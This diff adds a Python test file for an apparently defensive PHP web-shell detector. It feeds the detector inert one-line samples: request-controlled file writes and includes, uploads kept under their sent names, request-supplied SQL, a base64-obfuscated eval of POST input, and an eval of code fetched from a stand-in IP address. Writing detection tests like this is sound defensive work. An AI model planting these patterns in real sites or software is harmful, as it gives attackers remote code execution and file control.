@@ -1,0 +1,27 @@
+from codered.detect.scripts.facts import Script
+from codered.detect.scripts.php.reading import read_facts
+
+DEAD = "<?php die('inert example'); "
+
+
+def find_facts(code: str) -> set[str]:
+    return {fact.name for fact in read_facts(Script("php", DEAD + code))}
+
+
+def test_files_hosts_and_databases() -> None:
+    assert "writes-request-file" in find_facts("file_put_contents($_POST['n'], $_POST['c']);")
+    assert "writes-request-file" in find_facts("$h = fopen($_POST['n'], 'w'); fwrite($h, $_POST['c']);")
+    assert "writes-request-file" not in find_facts("file_put_contents(DATA . '/log', $_POST['c']);")
+    assert "keeps-upload-as-sent" in find_facts("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);")
+    assert "connects-to-request-host" in find_facts("fsockopen($_GET['h'], 80);")
+    assert "runs-request-query" in find_facts("mysql_query($_POST['q']);")
+    assert "runs-request-query" not in find_facts("mysql_query('SELECT 1 WHERE a=' . $_POST['q']);")
+
+
+def test_code_in_other_clothes() -> None:
+    assert "runs-request-code" in find_facts("preg_replace('/x/e', $_GET['c'], 'x');")
+    assert "runs-request-code" in find_facts("include 'php://input';")
+    assert "includes-request-file" in find_facts("include $_GET['f'];")
+    assert "includes-request-file" not in find_facts("include 'pages/' . basename($_GET['f']) . '.php';")
+    assert "runs-request-code" in find_facts("eval(base64_decode('ZXZhbCgkX1BPU1RbJ3gnXSk7'));")
+    assert "runs-fetched-code" in find_facts("eval(file_get_contents('http://192.0.2.1/x'));")
